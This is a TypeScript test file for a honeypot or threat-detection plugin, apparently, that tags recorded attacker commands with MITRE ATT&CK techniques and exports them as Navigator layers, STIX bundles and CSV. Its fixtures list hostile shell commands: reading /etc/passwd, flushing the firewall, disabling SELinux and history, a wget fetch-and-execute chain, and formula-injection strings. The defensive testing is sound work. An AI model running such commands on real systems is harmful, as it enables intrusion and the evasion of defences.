import { buildTags } from '@shardscope/sdk';
import type { Tag } from '@shardscope/sdk';
import { describe, expect, it } from 'vitest';
import {
  loadAttackCatalogue,
  navigatorLayer,
  stixBundle,
  tagsCsv,
  tagsJsonLines,
} from '../../../../packages/plugins/src/ttp/index.ts';
import type { AttackRelease } from '../../../../packages/plugins/src/ttp/index.ts';
import { builtinRules, event } from './events.ts';
import { layerSchema } from './navigator-4.5.ts';
import { stixBundleSchema } from './stix-2.1.ts';

const newer = loadAttackCatalogue('19.1');
const older = loadAttackCatalogue('18.1');

const COMMANDS = [
  'uname -a',
  'cat /etc/passwd',
  'iptables -F',
  'export HISTSIZE=0',
  'setenforce 0',
  'wget http://h/x; chmod 777 x; ./x',
  'uname -r',
  '=cmd|calc; id',
];

const TAGS: readonly Tag[] = COMMANDS.flatMap((text, index) => {
  const typed = event(
    'command',
    { command_text: text },
    { source_id: `s1#cmd${index}`, session_id: 's1', identity_uuid: index % 2 ? 'i1' : null },
  );
  return buildTags(builtinRules().lift(typed).tags, typed, {
    attack: newer,
    createdAt: 1_800_000_000 + index,
  });
});

const input = (release: AttackRelease = '19.1', tags = TAGS) => ({
  tags,
  title: 'all attackers',
  catalogue: release === '19.1' ? newer : older,
  catalogueOf: (name: string) => (name === '19.1' ? newer : name === '18.1' ? older : undefined),
});

describe.each<AttackRelease>(['19.1', '18.1'])('a Navigator layer for %s', (release) => {
  const layer = navigatorLayer(input(release));

  it('is of format 4.5', () => {
    expect(layerSchema.parse(layer)).toEqual(layer);
    expect(layer.versions.attack).toBe(release.slice(0, 2));
  });

  it('counts tags and names rules', () => {
    const found = layer.techniques.find(({ techniqueID }) => techniqueID === 'T1082');
    expect(found).toMatchObject({ tactic: 'discovery', score: 2, comment: 'R0018 ×2 (0.70)' });
    const scores = layer.techniques.reduce((sum, { score }) => sum + score, 0);
    expect(scores).toBe(TAGS.length);
  });

  it('names only what the release has', () => {
    const catalogue = release === '19.1' ? newer : older;
    for (const { techniqueID, tactic } of layer.techniques) {
      const technique = catalogue.technique(techniqueID);
      const tactics = technique?.tactics.map((id) => catalogue.tactic(id)?.shortname);
      expect(tactics).toContain(tactic);
    }
    const ids = layer.techniques.map(({ techniqueID }) => techniqueID);
    expect(ids.includes('T1686')).toBe(release === '19.1');
    expect(ids.includes('T1562.004')).toBe(release === '18.1');
  });
});

describe('a layer of nothing', () => {
  it('is a layer', () => {
    expect(layerSchema.safeParse(navigatorLayer(input('19.1', []))).success).toBe(true);
  });

  it('says how many tags an older release has no place for', () => {
    const [tag] = TAGS;
    const homeless = [{ ...tag, technique_id: 'T1682', sub_technique_id: null } as Tag];
    const layer = navigatorLayer(input('18.1', homeless));
    expect(layer.techniques).toEqual([]);
    expect(layer.description).toContain('1 of them have no place in this release');
  });
});

describe('a STIX bundle', () => {
  const make = (tags = TAGS) =>
    stixBundle({ ...input('19.1', tags), addressOf: () => '203.0.113.5' });
  const bundle = make();
  const ofType = (type: string) => bundle.objects.filter((object) => object.type === type);

  it('is STIX 2.1', () => {
    expect(stixBundleSchema.parse(JSON.parse(JSON.stringify(bundle)))).toEqual(bundle);
    const v6 = stixBundle({ ...input(), addressOf: () => '2001:db8::1' });
    expect(stixBundleSchema.safeParse(v6).success).toBe(true);
    const nowhere = stixBundle({ ...input(), addressOf: () => null });
    expect(stixBundleSchema.safeParse(nowhere).success).toBe(true);
  });

  it('is the same for the same tags, in whatever order they come', () => {
    expect(make([...TAGS].reverse())).toEqual(bundle);
  });

  it('has what it needs to stand alone', () => {
    const ids = new Set(bundle.objects.map(({ id }) => id));
    const references = JSON.stringify(bundle.objects).match(/"[a-z0-9-]+--[0-9a-f-]{36}"/g) ?? [];
    for (const reference of references) expect(ids).toContain(reference.slice(1, -1));
  });

  it('names techniques by MITRE’s ids, and the identity that uses them', () => {
    expect(ofType('attack-pattern').map((object) => object['external_references'])).toContainEqual([
      {
        source_name: 'mitre-attack',
        external_id: 'T1082',
        url: 'https://attack.mitre.org/techniques/T1082',
      },
    ]);
    expect(ofType('threat-actor').map((object) => object['name'])).toEqual(['Identity i1']);
    expect(ofType('relationship').length).toBeGreaterThan(0);
    expect(ofType('process').map((object) => object['command_line'])).toContain('uname -a');
  });
});

describe('tables of tags', () => {
  it('are CSV with a header, formulas made harmless', () => {
    const hostile = TAGS.map((tag) => ({ ...tag, session_id: '=1+2', decky_id: '@x,"y"\n-z' }));
    const lines = tagsCsv(input('19.1', hostile)).split('\r\n');
    expect(lines[0]).toMatch(/^uuid,created_at,attacker_uuid/);
    expect(lines[1]).toContain(`,'=1+2,"'@x,""y""\n-z",`);
    expect(lines[1]).toContain('2027-01-15T08:00:00.000Z');
    expect(lines.length).toBe(TAGS.length + 2);
  });

  it('are JSON Lines in order', () => {
    const lines = tagsJsonLines(input()).trim().split('\n');
    expect(lines.map((line): unknown => JSON.parse(line))).toEqual(TAGS);
  });

  it('can be written for the release before', () => {
    const rows = tagsJsonLines(input('18.1'))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Tag);
    const ids = rows.map((tag) => tag.sub_technique_id ?? tag.technique_id);
    expect(ids).toContain('T1562.003');
    expect(new Set(rows.map((tag) => tag.attack_release))).toEqual(new Set(['18.1']));
    expect(rows.some((tag) => tag.tactic === 'TA0112')).toBe(false);
    expect(tagsCsv(input('18.1'))).toContain('Defense Evasion');
  });
});
